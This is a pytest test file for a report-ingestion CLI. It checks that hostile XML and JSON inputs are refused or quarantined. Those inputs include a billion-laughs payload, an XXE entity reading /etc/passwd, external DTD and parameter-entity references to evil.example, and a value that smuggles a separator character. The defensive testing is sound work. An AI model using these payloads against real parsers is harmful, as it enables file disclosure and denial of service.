"""issue 15 item 5: hostile XML and JSON report documents, ingested through the CLI. Entity
expansion (billion laughs), external entities and DTDs are refused with one line before any
entity is read; deep nesting, oversized documents and malformed ones are one ``Error:`` line;
an oversized report or a value smuggling the fan-out separator is one quarantined row."""

from __future__ import annotations

import json
from collections.abc import Callable
from pathlib import Path

import pytest
import yaml
from click.testing import CliRunner

from ringmap.cli import cli

_XML_MAPPING = {
    "source": {"format": "xml", "records": "reports/report"},
    "entities": {
        "report": {"type": "Report", "properties": {
            "source": {"literal": "NCMEC"}, "reference": {"column": "reportId"}}},
        "account": {"type": "Account", "optional": True, "properties": {
            "platform": {"literal": "Facebook"},
            "handle": {"column": "personOrUserReported[*]/screenName"}}}},
    "relationships": [{"type": "NAMES", "source": "report", "target": "account"}]}
_JSON_MAPPING = {
    "source": {"format": "json", "records": "reports[*]", "limits": {"document_bytes": 4096}},
    "entities": {
        "report": {"type": "Report", "properties": {
            "source": {"literal": "Instagram"}, "reference": {"column": "id"}}},
        "account": {"type": "Account", "optional": True, "properties": {
            "platform": {"literal": "Instagram"}, "handle": {"column": "accounts[*].handle"}}}},
    "relationships": [{"type": "NAMES", "source": "report", "target": "account"}]}


def _report(ref: str, handle: str) -> str:
    return (f"<report><reportId>{ref}</reportId><personOrUserReported><screenName>{handle}"
            f"</screenName></personOrUserReported></report>")


_LAUGHS = ('<?xml version="1.0"?>\n<!DOCTYPE lolz [\n <!ENTITY lol "lol">\n'
           + "".join(f' <!ENTITY lol{i} "{f"&lol{i - 1};" * 10 if i > 1 else "&lol;" * 10}">\n'
                     for i in range(1, 10))
           + "]>\n<reports>" + _report("1", "&lol9;") + "</reports>\n")

#: name -> (file name, the file's text, what must happen: "error" text or "quarantine")
HOSTILE: dict[str, tuple[str, Callable[[], str], str]] = {
    "billion-laughs": ("r.xml", lambda: _LAUGHS, "DOCTYPE or entity declaration is refused"),
    "external-entity": ("r.xml", lambda: (
        '<?xml version="1.0"?>\n<!DOCTYPE r [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n'
        "<reports>" + _report("1", "&xxe;") + "</reports>"),
        "DOCTYPE or entity declaration is refused"),
    "external-dtd": ("r.xml", lambda: (
        '<?xml version="1.0"?>\n<!DOCTYPE reports SYSTEM "http://evil.example/r.dtd">\n'
        "<reports>" + _report("1", "a.b") + "</reports>"),
        "DOCTYPE or entity declaration is refused"),
    "parameter-entity": ("r.xml", lambda: (
        '<?xml version="1.0"?>\n<!DOCTYPE r [<!ENTITY % p SYSTEM "http://evil.example/p">'
        " %p;]>\n<reports>" + _report("1", "a.b") + "</reports>"),
        "DOCTYPE or entity declaration is refused"),
    "deep-nesting-xml": ("r.xml", lambda: (
        "<reports>" + "<a>" * 100_000 + "</a>" * 100_000 + "</reports>"),
        "nested deeper than source.limits.json_depth"),
    "malformed-xml": ("r.xml", lambda: "<reports>" + _report("1", "a.b")[:-5],
                      "malformed XML at line 1"),
    "not-xml": ("r.xml", lambda: "\x00\x01PK\x03\x04 binary", "malformed XML"),
    "deep-nesting-json": ("r.json", lambda: "[" * 2000 + "]" * 2000,
                          "nested deeper than source.limits.json_depth"),
    "document-too-long": ("r.json", lambda: json.dumps(
        {"reports": [{"id": str(i), "accounts": [{"handle": "x" * 50}]} for i in range(100)]}),
        "longer than source.limits.document_bytes"),
    "malformed-json": ("r.json", lambda: '{"reports": [{"id": "1",', "malformed JSON"),
    "oversized-report": ("r.xml", lambda: (
        "<reports>" + _report("1", "a.b") + _report("2", "x" * (1 << 20) + "y")
        + "</reports>"), "quarantine"),
    "fan-out-separator": ("r.json", lambda: json.dumps(
        {"reports": [{"id": "1", "accounts": [{"handle": "a.b"}]},
                     {"id": "2", "accounts": [{"handle": "victim\u001fagent.x"}]}]}),
        "quarantine"),
    "report-not-an-object": ("r.json", lambda: json.dumps(
        {"reports": [{"id": "1", "accounts": [{"handle": "a.b"}]}, "just text"]}),
        "quarantine"),
}


@pytest.mark.parametrize("name", sorted(HOSTILE))
def test_issue_15_hostile_nested_document(name: str, tmp_path: Path,
                                          monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(tmp_path)
    file, text, expect = HOSTILE[name]
    Path(file).write_text(text(), encoding="utf-8")
    mapping = _XML_MAPPING if file.endswith(".xml") else _JSON_MAPPING
    Path("m.yaml").write_text(yaml.safe_dump(mapping))
    result = CliRunner().invoke(cli, ["ingest", file, "-m", "m.yaml", "--store", "case.db",
                                      "--quarantine", "q", "--format", "json"])
    assert "Traceback" not in result.output
    if expect == "quarantine":
        assert result.exit_code == 0, result.output
        (done,) = json.loads(result.stdout)
        assert (done["read"], done["loaded"], done["rejected"]) == (2, 1, 1)
        assert "\u001f" not in Path(done["quarantine"]).read_text(encoding="utf-8")
        return
    assert result.exit_code == 1
    lines = result.stderr.splitlines()
    assert len(lines) == 1 and lines[0].startswith("Error: "), result.stderr
    assert expect in lines[0]
    assert "root:" not in result.output  # /etc/passwd was never read
    assert not Path("case.db").exists()
